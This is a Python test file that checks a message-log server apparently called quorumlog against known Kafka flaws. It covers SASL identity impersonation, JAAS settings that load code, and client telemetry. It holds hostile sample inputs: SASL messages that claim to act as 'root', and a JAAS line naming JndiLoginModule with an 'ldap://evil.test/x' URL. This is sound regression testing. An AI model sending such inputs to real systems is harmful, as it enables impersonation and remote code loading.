"""Flaws of other products that no other test has: docs/cves.md has them all, with a test of ours for each."""

from __future__ import annotations

import sys

import pytest

from quorumlog.security.sasl.jaas import JaasError, read_jaas
from quorumlog.security.sasl.jwks import Jwks
from quorumlog.security.sasl.mechanism import SCRAM_SHA_256, SCRAM_SHA_512, Challenge, Failed, ServerMechanism
from quorumlog.security.sasl.oauth_server import INVALID_TOKEN, OauthServer
from quorumlog.security.sasl.plain import PlainCache, PlainServer
from quorumlog.security.sasl.scram_server import ScramServer
from quorumlog.security.sasl.token import TokenRules
from quorumlog.wire.protocol.apis import BY_KEY
from tests.security.sasl.tokens import AUDIENCE, ISSUER, NOW_MS, claims, document, signed

KEY = b"k" * 32
TOKEN = signed(claims()).encode()


class NobodyIsAsked:
    """`Credentials`."""

    def scram(self, mechanism: str, name: str) -> None:
        raise AssertionError("who acts for another is refused before it is looked up")


def oauth() -> OauthServer:
    rules = TokenRules(issuer=ISSUER, audiences=(AUDIENCE,))
    return OauthServer(rules, Jwks(document(), NOW_MS), lambda: None)


FOR_ANOTHER: dict[str, tuple[ServerMechanism, bytes]] = {
    "PLAIN": (PlainServer(NobodyIsAsked(), PlainCache(KEY), KEY), b"root\0ada\0pencil"),
    SCRAM_SHA_256: (ScramServer(SCRAM_SHA_256, NobodyIsAsked(), "nonce", KEY), b"n,a=root,n=ada,r=abc"),
    SCRAM_SHA_512: (ScramServer(SCRAM_SHA_512, NobodyIsAsked(), "nonce", KEY), b"y,a=root,n=ada,r=abc"),
    "OAUTHBEARER": (oauth(), b"n,a=root,\x01auth=Bearer " + TOKEN + b"\x01\x01"),
}


@pytest.mark.parametrize("mechanism", FOR_ANOTHER)
def test_nobody_acts_for_another_user(mechanism: str) -> None:
    """CVE-2017-12610, of Kafka: a client logged in as itself and named somebody else, whom it then was."""
    server, message = FOR_ANOTHER[mechanism]
    outcome = server.step(message, NOW_MS)
    assert isinstance(outcome, Failed) or outcome == Challenge(INVALID_TOKEN)
    assert isinstance(server.step(message, NOW_MS), Failed), "the exchange is over"


@pytest.mark.parametrize(
    "module", ["com.sun.security.auth.module.JndiLoginModule", "com.sun.security.auth.module.LdapLoginModule", "os"]
)
def test_a_login_module_is_no_code_that_is_loaded(module: str) -> None:
    """CVE-2023-25194, CVE-2025-27818, CVE-2025-27819, of Kafka: the name of a class in a setting was run."""
    before = set(sys.modules)
    with pytest.raises(JaasError):
        read_jaas(f'{module} required user.provider.url="ldap://evil.test/x" useFirstPass="true";')
    assert set(sys.modules) == before


@pytest.mark.parametrize("key", [71, 72])
def test_telemetry_of_clients_is_not_taken(key: int) -> None:
    """CVE-2026-111073, of Kafka: what a client pushed was decompressed without a limit."""
    assert key not in BY_KEY
